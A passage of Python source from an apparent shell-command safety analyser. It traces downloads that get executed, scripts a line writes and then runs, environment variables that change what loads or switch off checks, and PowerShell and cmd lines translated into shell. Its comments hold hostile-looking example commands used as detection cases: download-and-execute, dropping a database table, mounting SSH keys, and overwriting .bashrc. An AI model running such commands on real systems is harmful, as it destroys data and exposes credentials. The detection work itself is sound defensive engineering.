        # a server of this machine a client is pointed at by its variable (`NOMAD_ADDR=http://127.0.0.1:4646
        # nomad ...`, `VAULT_ADDR=...`): a development agent, as the address word the rules read
        argv.extend(
            f"{n}={v}"
            for n, v in prefix_env.items()
            if v and _ADDRESS_VARIABLE.search(n) and _LOCAL_ADDRESS.match(v)
        )
        for env_name in ("PATH", "LD_PRELOAD", "BASH_ENV", "ENV", "PROMPT_COMMAND"):
            if env_name in prefix_env:
                state.note(f"env override {env_name}")
        for env_name, env_value in prefix_env.items():
            _checks_off(env_name, env_value, state)
            if env_value and runs_value(env_name, env_value):
                _command_variable(env_name, env_value, state, via, level)
            if env_name in CODE_LOADING_VARIABLES:
                _code_loading_variable(env_name, env_value, state)
            elif env_name.startswith("GIT_CONFIG_KEY_") and env_value:  # `GIT_CONFIG_KEY_0=core.pager`
                config = prefix_env.get("GIT_CONFIG_VALUE_" + env_name[len("GIT_CONFIG_KEY_") :])
                if config is None:
                    state.flag("git reads a config value the line computes")
                else:
                    _git_config_value(env_value, config, state, via, level)
    out = _run(argv, state, via, level, stdin, tuple(extra_redirects), dynamic_name)
    _wrote(state, extra_redirects, out)
    return out


_ADDRESS_VARIABLE = re.compile(r"_(?:ADDR|ADDRESS|URL|HOST|ENDPOINT|SERVER)$")
_LOCAL_ADDRESS = re.compile(r"^(?:\w+://)?(?:localhost|127\.0\.0\.1|\[::1\])(?::\d+)?(?:/|$)")


def _takes_environment(argv: list[str]) -> bool:
    """A deploy or migration tool, or a runner, that works in the environment a variable names: run by name,
    or as its interpreter's script (`python manage.py flush`)."""
    entry = program(_basename(argv[0]))
    if entry is not None and Role.INTERPRETER in entry.roles and len(argv) > 1:
        entry = program(_basename(argv[1])) if not argv[1].startswith("-") else None
    return entry is not None and bool(entry.changes or Role.RUNNER in entry.roles)


def _wrote(state: _State, targets: Iterable[str], out: _Stream | None) -> None:
    """Remember what the line wrote into files, so a later `sh f`, `. f` or `python f` runs known text."""
    for target in targets:
        state.written[target] = out.text if out is not None else None


_SCANNED_LANGS = frozenset({"python", "perl", "ruby", "php", "lua", "node", "deno", "bun", "awk"})


def _written_program_run(entry: Program | None, argv: list[str], state: _State) -> str | None:
    """The program file among a runner's or a build tool's operands that this line wrote (`cat > /tmp/x.dart
    <<EOF ... EOF; dart run /tmp/x.dart`): code in a language not read here, run at once."""
    from limen.facts.paths import PROGRAMS

    if entry is None or not ({Role.RUNNER, Role.COMPILES, Role.BUILDS} & set(entry.roles)):
        return None  # (`cat`, `cp`, `chmod`, a formatter: a file read, copied or changed, not run)
    for word in argv[1:]:
        if word.startswith("-") or "." not in word.rsplit("/", 1)[-1]:
            continue
        path = canonical(_posix_path(word), state.cwd, state.home)
        if path in state.written and "." + path.rsplit(".", 1)[-1].lower() in PROGRAMS:
            return path
    return None


def _folder_script(name: str, args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`direnv allow`, `direnv exec DIR CMD`: the folder's script (`.envrc`) runs now or on every later
    entry, read as `source` reads it."""
    file, verbs = FOLDER_SCRIPTS[name]
    words = [w for w in args if not w.startswith("-")]
    if not words or words[0] not in verbs:
        return
    target = canonical(words[1] if len(words) > 1 else ".", state.cwd, state.home)
    path = target if target.rsplit("/", 1)[-1] == file else target.rstrip("/") + "/" + file
    _run_written(path, name, "sh", state, via, level, [])


def _run_written(
    path: str, name: str, lang: str, state: _State, via: tuple[str, ...], level: int, args: list[str]
) -> None:
    """`echo CODE > f && bash f`, `python3 tools/clean.py`: analyse the text the line wrote into `f` (or, for
    an interpreter's script, the file as it is on disk) as `lang` would run it (a `#!` line naming the
    interpreter for a file run directly), or mark the line opaque when that is not known."""
    if path in state.written:
        text = state.written[path]
    else:
        found = _script_on_disk(path, lang, state)
        if found is None:
            return
        text = found
    if lang == "sh" and text is not None and text.startswith("#!"):
        words = [w for w in text[2:].split("\n", 1)[0].split() if not w.startswith("-")]
        interpreter = _basename(words[-1]) if words else ""
        lang = "sh" if not interpreter or interpreter in SHELLS else _lang(interpreter)
    if text is None or (lang != "sh" and lang not in _SCANNED_LANGS):
        state.flag(f"{name} runs a file the line wrote")
        return
    if lang == "sh" and _plain_settings(text):
        return  # a file of settings (`. .env`): its values are the environment's, as `$NAME` without it
    state.payloads.append(text)
    if lang == "sh":
        with _positional(state, [path, *args]):
            _analyse_text(text, state, via=(*via, f"{name} script"), level=level + 1)
    else:
        _scan_code(lang, text, state, (*via, f"{lang} script"), level, script=path, args=args)


# A dotenv file: nothing but comments and `NAME=value` lines (`export` or not); its values become variables
_ASSIGNMENTS_ONLY = re.compile(
    r"""(?:[ \t]*(?:#[^\n]*|(?:export[ \t]+)?[A-Za-z_]\w*="""
    r"""(?:"[^"`$\\\n]*"|'[^'\n]*'|[^\s"'`$;&|<>()]*))?[ \t]*(?:\n|$))*"""
)
_ASSIGNED_NAME = re.compile(r"^[ \t]*(?:export[ \t]+)?([A-Za-z_]\w*)=", re.MULTILINE)


def _plain_settings(text: str) -> bool:
    """A dotenv file whose variables only configure the programs that read them: none changes which
    program runs or what it loads (`PATH`, `LD_PRELOAD`, `GIT_SSH_COMMAND`) or switches a check off
    (`NODE_TLS_REJECT_UNAUTHORIZED=0`); those are read as the line's own assignments."""
    if not _ASSIGNMENTS_ONLY.fullmatch(text):
        return False
    return not any(
        changes_what_runs(name) or name in CHECKS_OFF_VARIABLES for name in _ASSIGNED_NAME.findall(text)
    )


MAX_SCRIPT = 128 * 1024  # bytes of a script file on disk that are read and analysed


def _script_on_disk(path: str, lang: str, state: _State) -> str | None:
    """The text of a script the line runs, as it is on disk (written earlier in the session, fetched, or part
    of the workspace): a shell script (`bash f`, `. f`, `./f` without a `#!` line or with a shell's) is read
    as the lines it runs, one whose `#!` line names an analysed interpreter as that language. A compiled
    program run directly (`./target/release/app`) or a file another interpreter runs is None: not read."""
    head = read_regular(path, MAX_SCRIPT + 1)  # never a FIFO or a device: reading one could block the call
    if head is None:
        return None
    if lang == "sh":
        if head.startswith(b"\x7fELF") or (b"\x00" in head[:4096] and not head.startswith(b"#!")):
            return None  # a compiled program: what it does is not in its bytes
        first = head[:256].split(b"\n", 1)[0]
        words = [w for w in first[2:].decode("latin-1").split() if not w.startswith("-")]
        interpreter = _basename(words[-1]) if head.startswith(b"#!") and words else ""
        if interpreter and interpreter not in SHELLS and _lang(interpreter) not in _CODE_LANGS:
            return None  # `#!/usr/bin/awk -f`, `#!/usr/bin/env lua`: a language Limen does not read
    elif lang not in _CODE_LANGS:
        return None
    if len(head) > MAX_SCRIPT:
        state.flag("script too large to analyse")
        return None
    if b"\x00" in head:
        state.flag(f"{lang} runs a file that is not source text")
        return None
    return head.decode("utf-8", "replace")


def _basename(word: str) -> str:
    """The program a path names, POSIX or Windows (`\\windows\\system32\\cmd.exe` started from code)."""
    name = word.rsplit("/", 1)[-1] if "/" in word.rstrip("/") else word
    if "\\" in name.rstrip("\\"):
        name = name.rsplit("\\", 1)[-1]
    return name[:-4] if name.lower().endswith(".exe") else name


def _run(
    argv: list[str],
    state: _State,
    via: tuple[str, ...],
    level: int,
    stdin: _Stream | None,
    redirects: tuple[str, ...] = (),
    dynamic_name: bool = False,
) -> _Stream | None:
    """Record one simple command and unwrap whatever it runs in turn; remember the files it rewrote."""
    before = len(state.write_paths)
    out = _run_command(argv, state, via, level, stdin, redirects, dynamic_name)
    name = _basename(argv[0])
    built = has(name, Role.COMPILES) and not _compiles_written(argv, state, stdin)
    if (
        len(state.write_paths) > before
        and name not in _KEEPS_CONTENT
        and not has(name, Role.WRAPPER)
        and not built
    ):
        # `tee` writes what it was given; `cp`, `sed -i`, `curl -o` write something unknown (a compiler's
        # output built from the project's own sources is the project's program, run as `./build/app` is)
        text = stdin.text if name == "tee" and stdin is not None else None
        for path in state.write_paths[before:]:
            state.written[path] = text
    return out


# Writers that leave a file's content as it was (or remove the file): running it afterwards runs what it held.
_KEEPS_CONTENT = names(Role.METADATA, Role.DELETES)


# A Windows program as a line names it: by its bare name (found on the PATH), or on a Windows drive
_WINDOWS_PROGRAM = re.compile(r"[^/]+$|/mnt/[a-z]/")


def _run_command(
    argv: list[str],
    state: _State,
    via: tuple[str, ...],
    level: int,
    stdin: _Stream | None,
    redirects: tuple[str, ...] = (),
    dynamic_name: bool = False,
) -> _Stream | None:
    if state.stopped:
        return None
    if argv[0][-4:].lower() == ".exe" and _WINDOWS_PROGRAM.match(argv[0]):
        # `reg.exe`, `C:\Windows\Sysmon64.exe` from WSL or Git Bash: the program itself, whose name is the
        # same in any case (a file the line downloads or builds, `/tmp/t.exe`, keeps its path)
        folder, _, base = argv[0][:-4].rpartition("/")
        argv = [f"{folder}/{base.lower()}" if folder else base.lower(), *argv[1:]]
    name = _basename(argv[0])
    dynamic_name = dynamic_name or bool(_DYNAMIC_WORD.match(argv[0]))
    run_via = via
    if (
        stdin is not None
        and stdin.sources
        and (
            name in SHELLS
            or name in INTERPRETERS
            or name == "xargs"
            or name in ("source", ".", "eval", "parallel")
            or "--password-stdin" in argv  # `aws ecr get-login-password | docker login --password-stdin R`
        )
    ):
        run_via = (*via, "stdin:" + ",".join(stdin.sources), *stdin.decoders)
    _record(
        state,
        Command(argv=tuple(argv), name=name, via=run_via, redirects=redirects, dynamic_name=dynamic_name),
    )
    emptied = emptied_operands(name, argv)
    if name in _NULL_COMMANDS:
        emptied += [r for r in redirects if r not in state.appended]
    _record_emptied(state, emptied, run_via)
    if dynamic_name:
        state.flag("dynamic command name")
        return None
    if argv[0] in state.functions and argv[0] not in state.calling and level < MAX_LEVEL:
        body, src = state.functions[argv[0]]
        state.calling.add(argv[0])
        try:
            with _positional(state, [argv[0], *argv[1:]]):
                _walk(body, src, state, (*via, argv[0]), level + 1, 0)
        finally:
            state.calling.discard(argv[0])
        return None
    entry = program(name)
    if entry is not None and (entry.output_options or entry.output_operand is not None):
        for word in _output_files(entry, argv[1:]):  # `gcc -o ~/.bashrc`, `xxd -r - ~/.bashrc`
            _add_path(word, state, write=True)
    if name == "go" and argv[1:3] == ["env", "-w"]:  # `go env -w GOSUMDB=off`: set for every later go
        for word in argv[3:]:
            _checks_off(*word.partition("=")[::2], state)
    if name in ("curl", "wget", *HTTPIE_NAMES):
        _api_call(argv, name, state, via)  # `curl -X PATCH .../settings/ssl -d '{"value":"off"}'`
    elif (entry is None and not argv[0].startswith("-")) or (
        entry is not None and (entry.changes or argv[1:2] == ["api"])
    ):
        # `kcadm.sh update realms/x -s sslRequired=NONE`, `zorkd --no-auth`, and any program's REST
        # passthrough as its admin CLI (`auth0 api patch PATH --data JSON`)
        _admin_settings(argv, entry, state)
    _password_given(argv, state)
    if entry is not None and entry.mounts and Role.CONTAINER not in entry.roles:
        _mounted(entry.mounts, argv[1:], state)  # `apptainer run --bind ~/.ssh:/keys IMAGE`
    if name in _UNPACKERS:
        _unpacked_into(name, argv[1:], state)
        if stdin is not None or state.downloaded:
            _unpacks_download(name, argv[1:], state, stdin)
    if redirects and name in DOWNLOADERS:  # `curl -s URL > f`: the file holds what was downloaded
        for target in redirects:
            state.downloaded.update((target, canonical(target, state.cwd, state.home)))
    if state.cloned and entry is not None and entry.roles & _RUNS_PROJECT_CODE:
        # in the checkout, or pointed at it (`make -C /tmp/b`, `npm --prefix /tmp/b run x`)
        where = [state.cwd, *(canonical(w, state.cwd, state.home) for w in argv[1:] if _looks_like_path(w))]
        if any(p == d or p.startswith(d + "/") for p in where for d in state.cloned):
            state.flag(f"{name} runs code from a repository the line cloned")  # its Makefile, its scripts
    if (
        entry is not None
        and entry.roles & _RUNS_CODE_FILES
        and any(w.startswith("<(") and _from_download(w) for w in argv[1:])
    ):  # `swift <(curl -fsSL URL)`, `kotlin <(wget -qO- URL)`: the file it runs is what was downloaded
        state.note("download_exec")
    if entry is not None and entry.fetches_code and re.search(entry.fetches_code, " ".join(argv[1:])):
        state.flag(f"{name} installs code from a repository to run as part of it")
    if entry is not None and entry.roles & _FETCHES_PACKAGES:
        source = next((w for w in argv[1:] if _VCS_SOURCE.search(w) or _SOURCE_ARCHIVE.match(w)), "")
        if source and not _widely_used_source(source):
            # its build code (setup.py, build.rs, install scripts) runs: not a registry's package, nor a
            # repository that many projects take their tools from (`nix run github:nix-community/disko`)
            state.flag(f"{name} fetches a package from a repository and runs its code")
    if entry is not None and entry.roles & _RUNS_ARGUMENT:
        _argument_commands(entry, name, argv, state, via, level, stdin)
    if name in _TASK_RUNNERS:
        _project_tasks(name, argv[1:], state, via, level)
    if name in FILE_SERVERS and (name != "caddy" or argv[1:2] == ["file-server"]):
        _serves(name, argv[1:], state)
    if name == "patch" or (
        name == "git" and [w for w in argv[1:] if not w.startswith("-")][:1] in (["apply"], ["am"])
    ):
        _applies_patch(name, argv[1:], state, stdin)
    if entry is not None and Role.COMPILES in entry.roles and _compiles_written(argv, state, stdin):
        state.flag(f"{name} compiles code this line wrote or piped (not analysed)")
    elif (written := _written_program_run(entry, argv, state)) is not None:
        _run_written(written, name, name, state, via, level, [])  # `dart run /tmp/x.dart` the line wrote
    if entry is not None and entry.removes_operands and re.search(entry.removes_operands, " ".join(argv[1:])):
        # `zip -rm /tmp/a.zip ~/projects`: what it archives is deleted after, as `rm -rf` would
        files = _operands(argv[1:], entry.options)
        if files:
            _record(state, Command(argv=("rm", "-rf", *files), name="rm", via=(*via, name)))
            for word in files:
                _add_path(word, state, write=True)
    if name == "cmake" and ("-E" in argv[1:] or "-P" in argv[1:]):
        return _cmake_mode(argv, state, via, level, stdin)
    if name in FOLDER_SCRIPTS:
        _folder_script(name, argv[1:], state, via, level)
    handler = _HANDLERS.get(name)
    if handler is None and entry is not None and Role.INTERPRETER in entry.roles:
        handler = _interpreter  # `python3.11`, `node18`
    if handler is not None:
        result: _Stream | None = handler(argv, state, via, level, stdin)
        return result
    if name in ("pwsh", "powershell") and stdin is None and (line := _powershell_command(argv)) is not None:
        _analyse_text(line, state, via=(*via, name), level=level + 1)  # `pwsh -c "Get-Content x | ..."`
        return None
    if name == "cmd" and stdin is None and (line := _cmd_command(argv)) is not None:
        _analyse_text(line, state, via=(*via, name), level=level + 1)  # `cmd /c "del /s /q build"`
        return None
    if entry is not None and stdin is None and (script := _script_file(entry, argv[1:])) is not None:
        _add_path(script, state, write=False)  # `pwsh -File build.ps1`: the project's, as `bash build.sh` is
        path = canonical(_posix_path(script), state.cwd, state.home)
        _runs_fetched(script, path, state)
        if name in ("pwsh", "powershell"):  # read as the shell line it equals, as `bash build.sh` is read
            _run_powershell_file(path, name, state, via, level)
        else:
            _run_written(path, name, name, state, via, level, [])  # one the line wrote is not read: flagged
        return None
    unread = name in UNANALYSED_SCRIPT and _runs_unanalysed_code(entry, argv, stdin)
    if unread:
        state.flag(f"{name} script not analysed")
        state.payloads.append(" ".join(argv[1:]))
    _generic(argv, state, name)
    if name == "az":
        _az_upload(argv, state)
    if "/" in argv[0]:
        path = canonical(argv[0], state.cwd, state.home)
        _runs_fetched(argv[0], path, state)
        _run_written(path, "exec", "sh", state, via, level, argv[1:])
    elif state.downloaded and _path_locations(name, state) & state.downloaded:
        state.note("download_exec")  # `wget URL -O /usr/local/bin/agent && chmod +x ... && agent`
    return None


_PATH_FOLDERS = ("/usr/local/bin", "/usr/bin", "/bin", "/usr/local/sbin", "/opt/homebrew/bin")


def _path_locations(name: str, state: _State) -> set[str]:
    """Where a command called `name` would be found on a usual PATH (the user's own bin folders too)."""
    home = state.home.rstrip("/")
    return {f"{d}/{name}" for d in (*_PATH_FOLDERS, f"{home}/.local/bin", f"{home}/bin")}


def _compiles_written(argv: list[str], state: _State, stdin: _Stream | None) -> bool:
    """A compiler given the source this line wrote (`cat > x.go <<EOF ... EOF; go run x.go`) or on its input
    (`echo 'int main(){...}' | gcc -x c -`): code Limen sees but does not read. A project's own sources
    (`go run main.go`, `gcc -o app main.c`) are the project's business."""
    for word in argv[1:]:
        if word == "-" and stdin is not None and (stdin.text or (stdin.text is None and stdin.sources)):
            return True  # (`</dev/null`: known and empty, nothing compiled)
        if not word.startswith("-") and canonical(word, state.cwd, state.home) in state.written:
            return True
    return False


# A user's folder on Windows (`C:\Users\dev\.aws\credentials`) is their home: the credential, key and
# persistence tables name those places under `~`
_WINDOWS_HOME = re.compile(r"(?i)^[a-z]:/users/[^/]+(?=/|$)")
_WINDOWS_DRIVE = re.compile(r"^([A-Za-z]):(?=/|$)")
_REGISTRY_KEY = re.compile(r"(?i)HK(?:LM|CU|CR|U|CC|EY_[A-Z_]+)\\")
_UNC = re.compile(r"(^|=)\\\\([\w.-]+)\\")


def _posix_path(word: str) -> str:
    """A PowerShell word as the shell line reads it: `\\` is PowerShell's path separator, never an escape
    (its escape is the backtick, which leaves the line unread), a quoted path without spaces loses its
    quotes, and a user's folder becomes `~`."""
    if "\\" not in word or _REGISTRY_KEY.match(word.lstrip("'\"")):  # (`HKLM\SAM`: a registry key, no path)
        return word
    bare = word[1:-1] if len(word) > 1 and word[0] == word[-1] and word[0] in "'\"" else word
    if _UNC.search(bare):  # `\\203.0.113.44\drop`: a share on another machine, reached over the network
        return _UNC.sub(r"\1smb://\2/", bare).replace("\\", "/")
    if any(c.isspace() for c in bare):
        return word.replace("\\", "/")
    posix = _WINDOWS_HOME.sub("~", bare.replace("\\", "/"))
    drive = _WINDOWS_DRIVE.match(posix)  # `E:\Backups` is a disk of its own, where WSL mounts it
    return f"/mnt/{drive.group(1).lower()}{posix[2:]}" if drive else posix


def _jump_hosts(args: list[str]) -> list[str]:
    """The jump hosts of `ssh`/`scp`/`sftp -J HOST[,HOST...]` (or `-JHOST`): each is a machine the
    connection goes through, so each is one of the call's destinations."""
    found: list[str] = []
    for i, word in enumerate(args):
        if word == "-J":
            value = args[i + 1] if i + 1 < len(args) else ""
        else:
            value = word[2:] if word.startswith("-J") else ""
        found += [host for host in value.split(",") if host]
    return found


def _run_powershell_file(path: str, name: str, state: _State, via: tuple[str, ...], level: int) -> None:
    """`pwsh -File scripts/fix.ps1`: the script (as the line wrote it, or on disk) read as the shell line with
    its effects; one the reader cannot translate is opaque, as the same text given to `-Command` is."""
    text = state.written.get(path)
    if text is None:
        head = read_regular(path, MAX_SCRIPT + 1)
        if head is None:
            return  # (not there: nothing known of it, as of any program the project runs)
        if len(head) > MAX_SCRIPT or b"\x00" in head:
            state.flag(f"{name} runs a script too large or not text to analyse")
            return
        text = head.decode("utf-8", "replace")
    line = powershell_line(text)
    state.payloads.append(text)
    if line is None:
        state.flag(f"{name} script not analysed")
        return
    _analyse_text(line, state, via=(*via, f"{name} script"), level=level + 1)


def _powershell_command(argv: list[str]) -> str | None:
    """The shell line a `pwsh -Command TEXT` (`-c`) equals, when its text is within the subset read here."""
    args = argv[1:]
    for i, word in enumerate(args[:-1]):
        if word.lower() in ("-c", "-command"):
            return powershell_line(" ".join(args[i + 1 :]))
    return None


def powershell_line(text: str) -> str | None:
    """A PowerShell script as the shell line with its effects (`limen.normalize.powershell`), or None."""
    from limen.normalize.powershell import powershell_line as read

    return read(text)


# cmd.exe's own commands as the shell commands with their effect; a native program (`git status`) is itself
_CMD_AS = {
    **dict.fromkeys(("dir", "tree"), "ls"),
    "type": "cat",
    "more": "cat",
    "copy": "cp",
    "xcopy": "cp -r",
    "move": "mv",
    "ren": "mv",
    "rename": "mv",
    **dict.fromkeys(("md", "mkdir"), "mkdir -p"),
    "echo": "echo",
    "cd": "cd",
    "where": "which",
    "findstr": "grep -e",
    **dict.fromkeys(("cls", "ver", "vol", "rem", "title", "pause"), "true"),
}
_CMD_SEPARATOR = re.compile(r'"[^"]*"|&&|\|\||[&|]|>>?|[^&|>"]+')
_CMD_SWITCH = re.compile(r"^/[A-Za-z?](?::\S*)?$")


def _cmd_command(argv: list[str]) -> str | None:
    """The shell line a `cmd /c LINE` (`/k`, `/r`) equals, when its line is within the subset read here."""
    args = argv[1:]
    for i, word in enumerate(args[:-1]):
        if word.lower() in ("/c", "/k", "/r"):
            return _cmd_line(" ".join(args[i + 1 :]))
    return None


def _cmd_line(text: str) -> str | None:
    """A cmd.exe command line as the shell line it equals (`del /s /q out` is `rm -r -f out`, `robocopy A B
    /MIR` is `rsync -a --delete A/ B/`), or None when any part is beyond this subset (variables, escapes,
    `for`, `if`, `call`, `start`): the line is then left opaque, as before. A program, a `.bat` or an `.exe`
    runs as the shell line would run it."""
    stripped = text.strip()
    if len(stripped) > 1 and stripped[0] == stripped[-1] == '"':
        stripped = stripped[1:-1]
    if re.search(r"[%^!`$()<]", stripped):
        return None
    out: list[str] = []
    segment: list[str] = []

    def flush() -> bool:
        if not segment:
            return True
        line = _cmd_segment("".join(segment))
        segment.clear()
        if line is None:
            return False
        out.append(line)
        return True

    for token in _CMD_SEPARATOR.findall(stripped):
        if token in ("&&", "||", "&", "|"):
            if not flush():
                return None
            out.append({"&": ";"}.get(token, token))
        elif token in (">", ">>"):
            segment.append(f" {token} ")
        else:
            segment.append(token)
    if not flush():
        return None
    return " ".join(out) if out else None


def _cmd_segment(segment: str) -> str | None:
    """One cmd.exe command (no separator) as a shell command, or None."""
    redirect = ""
    if ">" in segment.replace('">"', ""):
        segment, arrow, target = re.split(r"(>>?)", segment, maxsplit=1)
        redirect = f" {arrow} {_cmd_word(target.strip())}"
    words = re.findall(r'"[^"]*"|\S+', segment)
    if not words:
        return None
    head = _basename(words[0].strip('"').replace("\\", "/")).lower()
    switches = {w[1:].lower() for w in words[1:] if _CMD_SWITCH.match(w)}
    operands = [_cmd_word(w) for w in words[1:] if not _CMD_SWITCH.match(w)]
    if head in ("del", "erase"):
        return (
            " ".join(["rm", "-r" if "s" in switches else "", "-f", *operands]).replace("  ", " ") + redirect
        )
    if head in ("rd", "rmdir"):
        return " ".join(["rm -r -f" if "s" in switches else "rmdir", *operands]) + redirect
    if head == "robocopy" and len(operands) >= 2:
        mirror = {"mir", "purge"} & switches or "move" in switches
        source, target = operands[0], operands[1]
        return (
            f"rsync -a --delete {source}/ {target}/" if mirror else f"cp -r {source}/. {target}/"
        ) + redirect
    if head in _CMD_AS:
        return " ".join([_CMD_AS[head], *operands]) + redirect
    if head in _CMD_UNREAD or _CMD_SWITCH.match(words[0]):
        return None
    runs = head if program(head) is not None else _cmd_word(words[0])  # (a `.bat` or `.exe` by its path)
    return " ".join([runs, *(w if _CMD_SWITCH.match(w) else _cmd_word(w) for w in words[1:])]) + redirect


# cmd.exe's commands whose effect is not read here (control flow, variables, other programs started by
# association, links): a line with one is left opaque
_CMD_UNREAD = frozenset(
    {"for", "if", "set", "setx", "call", "start", "goto", "pushd", "popd", "assoc", "ftype", "setlocal"}
    | {"endlocal", "shift", "prompt", "path", "mklink", "date", "time", "doskey", "runas"}
    | {"format", "diskpart", "cipher", "label", "convert", "chkdsk"}  # (a drive formatted, wiped, converted)
)


def _cmd_word(word: str) -> str:
    """A cmd.exe word as a shell word: its path made POSIX (`~` kept bare, so the shell line expands it)."""
    path = _posix_path(word.strip('"'))
    return path if re.fullmatch(r"[\w@%+=:,./~*?-]+", path) else shlex.quote(path)


def _script_file(entry: Program, args: list[str]) -> str | None:
    """The script file a script host is given (`pwsh -NoProfile -File .\\build.ps1`, `osascript notify.scpt`):
    the first word named as its scripts are, when each word before it is an option that carries no code
    (options are read without case, and a prefix of a code option is that option, as PowerShell reads
    them). None when it is given code, or no file named so."""
    if not entry.script_suffixes:
        return None
    i = 0
    while i < len(args):
        word = args[i]
        lowered = word.lower()
        if lowered.endswith(entry.script_suffixes) and not lowered.startswith("-"):
            return word
        if not lowered.startswith("-") or lowered == "-":
            return None  # an operand that is no script of its (code, or a file read from the input)
        if lowered in entry.options or lowered in entry.code_options:
            if lowered in entry.code_options:
                return None
            i += 2
            continue
        if len(lowered) > 1 and any(c.startswith(lowered) for c in entry.code_options):
            return None  # `-enc`, `-com`: a code option abbreviated
        i += 1
    return None


def _runs_unanalysed_code(entry: Program | None, argv: list[str], stdin: _Stream | None) -> bool:
    """A script host given code: on its input (`tclsh <<< CODE`), or in its words: any word, or for a
    program that also does other things (an editor: `emacs FILE`), a value of one of its `code_options`."""
    if stdin is not None and (stdin.text is not None or stdin.sources):
        return True
    if len(argv) < 2:
        return False
    if entry is None or not entry.code_options or entry.script_suffixes:
        return True  # (a host with script files: `_script_file` found none, so its words are code)
    args = argv[1:]
    return bool(_option_values(args, entry.code_options)) or any(
        w.split("=", 1)[0] in entry.code_options for w in args
    )


# The variables that choose an application's environment, and the environments whose database is a scratch one
_APP_ENVIRONMENT = ("RAILS_ENV", "RACK_ENV", "APP_ENV", "NODE_ENV")
_SCRATCH_ENVIRONMENTS = frozenset({"test", "testing", "development", "local"})
_RAILS_COMMANDS = frozenset({"rails", "rake", "bundle"})  # `bundle exec rails ...` hands its words on


def _h_rails(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    """`rails runner CODE` (or `-`: its input, or a script file) and `rails console` fed on its input run Ruby
    in the application, with its database and credentials: the code is read as `ruby -e CODE` would be."""
    words = [w for w in argv[1:] if not w.startswith("-")]
    options = {"-e", "--environment"}
    chosen = [argv[i + 1] for i, w in enumerate(argv[1:-1], 1) if w in options]
    chosen += [w.split("=", 1)[1] for w in argv[1:] if w.startswith("--environment=")]
    if chosen and all(e in _SCRATCH_ENVIRONMENTS for e in chosen):
        state.note(SCRATCH_DATABASE_NOTE)
    operands = [
        w
        for i, w in enumerate(argv[1:], 1)
        if (w == "-" or not w.startswith("-")) and argv[i - 1] not in options
    ]
    if operands[:1] in (["runner"], ["r"]) and len(operands) >= 2:
        code = operands[1]
        if code == "-":  # `curl ... | rails runner -`
            _interpreter(["ruby"], state, (*via, "rails runner"), level, stdin)
        elif os.path.isfile(os.path.join(state.cwd, code)):
            _interpreter(["ruby", code, *operands[2:]], state, (*via, "rails runner"), level, None)
        else:
            _interpreter(["ruby", "-e", code], state, (*via, "rails runner"), level, None)
    elif words[:1] in (["console"], ["c"]) and stdin is not None:  # `echo 'User.delete_all' | rails c`
        _interpreter(["ruby"], state, (*via, "rails console"), level, stdin)


def _h_artisan(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> None:
    """`php artisan tinker --execute=CODE` (or fed on its input) runs PHP in the application, with its
    database, mailer and settings: the code is read as `php -r CODE` would be."""
    _generic(argv, state, _basename(argv[0]))
    words = [w for w in argv[1:] if not w.startswith("-")]
    if words[:1] != ["tinker"]:
        return
    code = next((w.split("=", 1)[1] for w in argv[1:] if w.startswith("--execute=")), None)
    if code is None and "--execute" in argv[:-1]:
        code = argv[argv.index("--execute") + 1]
    if code is not None:
        if not code.rstrip().endswith((";", "}")):
            code = code.rstrip() + ";"  # (PsySH takes a last statement without its `;`, as a REPL does)
        _interpreter(["php", "-r", code], state, (*via, "artisan tinker"), level, None)
    elif stdin is not None:  # `echo 'User::query()->delete();' | php artisan tinker`
        _interpreter(["php"], state, (*via, "artisan tinker"), level, stdin)


def _h_console(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> None:
    """An application's console (`Program.console`: `manage.py shell -c CODE`, `wp eval CODE`) runs code in
    the application, with its database and settings: the code, or the input it is fed, is read as its
    interpreter's would be (`python3 -c CODE`)."""
    name = _basename(argv[0])
    _generic(argv, state, name)
    entry = program(name)
    if entry is not None and entry.console is not None:
        _console_code(entry, entry.console, argv, state, via, level, stdin)


def _console_code(
    entry: Program,
    console: tuple[str, tuple[str, ...], tuple[str, ...]],
    argv: list[str],
    state: _State,
    via: tuple[str, ...],
    level: int,
    stdin: _Stream | None,
) -> None:
    """The code an application's console is given (an option's value, an operand, its input), read as its
    interpreter's would be; a language not analysed here leaves the line opaque."""
    name = _basename(argv[0])
    sub, interpreter, options = console
    words = _operands(argv[1:], entry.options | frozenset(options))
    if entry.db_console is not None and words[:1] == [entry.db_console[0]] and stdin is not None:
        # `echo 'DROP TABLE users;' | python manage.py dbshell`: the SQL, as its client would run it
        _run([entry.db_console[1]], state, (*via, f"{name} {words[0]}"), level + 1, stdin)
        return
    if words[:1] != [sub]:
        return
    code = next((w.split("=", 1)[1] for w in argv[1:] if w.split("=", 1)[0] in options and "=" in w), None)
    if code is None:
        code = next((argv[i + 1] for i, w in enumerate(argv[:-1]) if w in options), None)
    if code is None and not options and len(words) > 1:
        code = words[1]
    runs = _interpreter if interpreter[0] in INTERPRETERS else _run  # (`elixir -e`: not analysed, opaque)
    if code is not None:
        runs([*interpreter, code], state, (*via, f"{name} {sub}"), level, None)
    elif stdin is not None:  # `echo 'User.objects.all().delete()' | python manage.py shell`
        runs([interpreter[0]], state, (*via, f"{name} {sub}"), level, stdin)


def _h_ed(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    """`ed FILE <<< COMMANDS`: a command line of ed's that starts with `!` runs in a shell; the file is
    read (and written by `w`)."""
    _generic(argv, state, _basename(argv[0]))
    if stdin is not None and stdin.text is not None:
        for line in stdin.text.splitlines()[:256]:
            if line.lstrip().startswith("!"):
                command = line.lstrip()[1:]
                _shell_string(command, state, via, level, _is_dynamic(command, state), "ed !")
    elif stdin is not None and stdin.sources:
        state.flag(f"ed runs commands from the output of {stdin.sources[-1]}")


_HTTP_METHODS = frozenset({"GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"})


def _h_httpie(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream | None:
    """`http POST example.com/a key=value` (HTTPie, xh): the URL may come without its scheme, after an
    optional method; a bare `:3000/x` is this machine."""
    name = _basename(argv[0])
    _generic(argv, state, name)
    words = [w for w in argv[1:] if not w.startswith("-")]
    if words and words[0].upper() in _HTTP_METHODS:
        words = words[1:]
    if words and "://" not in words[0] and not _is_dynamic(words[0], state):
        target = words[0]
